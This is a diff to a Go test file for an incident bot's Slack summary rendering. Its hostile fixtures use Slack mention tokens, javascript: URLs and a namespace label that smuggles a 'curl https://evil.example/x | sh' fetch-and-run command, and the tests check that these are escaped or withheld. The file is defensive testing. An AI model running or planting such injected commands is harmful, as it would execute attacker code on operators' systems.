@@ -124,6 +124,7 @@ func blocksViews() []struct {
 		{Kind: "runbook", Title: "entity", URL: "https://evil.example/?a=&lt;!channel&gt;"},
 		{Kind: "runbook", Title: "space", URL: "https://evil.example/a b"},
 		{Kind: "<!channel>", Title: "", URL: "javascript:alert('<!channel>')"},
+		{Kind: "runbook", Title: "<!channel> withheld", Note: "not linked: host <!here>.evil.example is not in links.allowed_hosts"},
 	}
 
 	declared := baseIncident()
@@ -147,9 +148,11 @@ func blocksViews() []struct {
 	hostileDeploy := incident.Deploy{Service: "<@U123>", SHA: "<!channel>", Author: "<https://evil.example|boss> & co",
 		URL: "javascript:alert(1)", FinishedAt: blocksNow.Add(-time.Hour)}
 	hostile.Evidence = &incident.Evidence{Round: 1, Deploys: []incident.Deploy{hostileDeploy}, Suspect: &hostileDeploy,
-		Target: &incident.Deploy{SHA: "<!here>"}, Rollback: "kubectl rollout undo `<!channel>`", CompareURL: "https://evil.example/x|<!here>",
+		Target: &incident.Deploy{SHA: "<!here>"}, CompareURL: "https://evil.example/x|<!here>",
 		Traces:   []incident.Trace{{ID: "<!here>", Operation: "<!channel>", ErrorSpan: "<@U123>", URL: "https://jaeger.example.com/trace/a|<!here>"}},
 		Problems: []string{"Jaeger: <!channel> &amp;"}, Pending: []string{"<@U999>"}}
+	// The rule's command would take a label that is not of its kind.
+	hostile.Evidence.RollbackWithheld = `rollback suggestion withheld: label namespace "<!channel>; curl https://evil.example/x | sh #" is not a Kubernetes name`
 
 	return []struct {
 		name string
@@ -169,7 +172,11 @@ func blocksViews() []struct {
 			Alerts: []incident.Alert{resolvedAlert}}},
 		{"storm", bot.SummaryView{Incident: storm, Now: blocksNow, TotalAlerts: 500, FiringAlerts: 480, Alerts: stormAlerts, Links: stormLinks}},
 		{"hostile", bot.SummaryView{Incident: hostile, Now: blocksNow, TotalAlerts: 2, FiringAlerts: 1, Links: hostileLinks,
-			Rollback: "<!here> roll back to <https://evil.example|v1> & fast", Alerts: []incident.Alert{evil, evil2}}},
+			// What the summary says when the rule's command would take a
+			// label that is not of its kind: no command, and why.
+			Rollback: "<!here> roll back to <https://evil.example|v1> & fast. No command: rollback suggestion withheld: " +
+				`label namespace "<!channel>; curl https://evil.example/x | sh #" is not a Kubernetes name.`,
+			Alerts: []incident.Alert{evil, evil2}}},
 		{"declared", bot.SummaryView{Incident: declared, Now: blocksNow}},
 	}
 }
@@ -360,7 +367,9 @@ func TestSummaryBlocksContent(t *testing.T) {
 			[]string{"Acknowledge", "Silence 1h", "Roll back"}},
 		{"storm", []string{"480 firing of 500", ":warning: 250 more not sent by Alertmanager", "more alerts", "more links"}, nil},
 		{"hostile", []string{"&lt;!channel&gt;", "&lt;@U123&gt;", "&lt;https://evil.example|click&gt;", "&amp;amp;", "<@U0LEGIT42>",
-			"%3C%21channel%3E%7C%3C%40U123%3E", "https://jaeger.example.com/x%3Ey%7C%3C!channel%3E|&amp;amp; traces>"},
+			"%3C%21channel%3E%7C%3C%40U123%3E", "https://jaeger.example.com/x%3Ey%7C%3C!channel%3E|&amp;amp; traces>",
+			`No command: rollback suggestion withheld: label namespace "&lt;!channel&gt;; curl https://evil.example/x | sh #" is not a Kubernetes name.`,
+			":books: &lt;!channel&gt; withheld _(not linked: host &lt;!here&gt;.evil.example is not in links.allowed_hosts)_"},
 			[]string{"evil.example/a b", "|space>", "|entity>", "a=&lt;", "javascript:"}},
 		{"declared", []string{"No alerts attached.", "value unknown", "*Commander*\ncli:alice", "Acknowledge"}, nil},
 	}
